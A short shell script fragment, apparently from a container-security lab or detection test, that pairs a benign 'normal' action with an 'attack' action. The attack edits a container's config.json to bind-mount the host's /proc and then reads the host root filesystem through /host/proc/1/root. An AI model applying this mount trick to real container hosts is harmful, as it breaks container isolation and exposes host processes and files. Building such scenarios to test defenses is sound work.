# The container started again with the host's /proc bound into it (a "monitoring" or "debug" container given
# the host's process table): its first program, and anything running in it, reaches every host process and,
# through /host/proc/N/root, their files. The runtime makes the bind mount before the container's program runs;
# nothing the container does afterwards needs to look odd.
normal() { inside "$1" /bin/ls / >/dev/null 2>&1 || true; }
attack() {
  stop "$1"
  python3 - "$LAB_DIR/$1/config.json" <<'PY'
import json, sys
c = json.load(open(sys.argv[1]))
c["mounts"].append({"destination": "/host/proc", "type": "bind", "source": "/proc", "options": ["rbind", "ro"]})
json.dump(c, open(sys.argv[1], "w"), indent=1)
PY
  start "$1"
  inside "$1" /bin/ls /host/proc/1/root/ >/dev/null 2>&1 || true
}
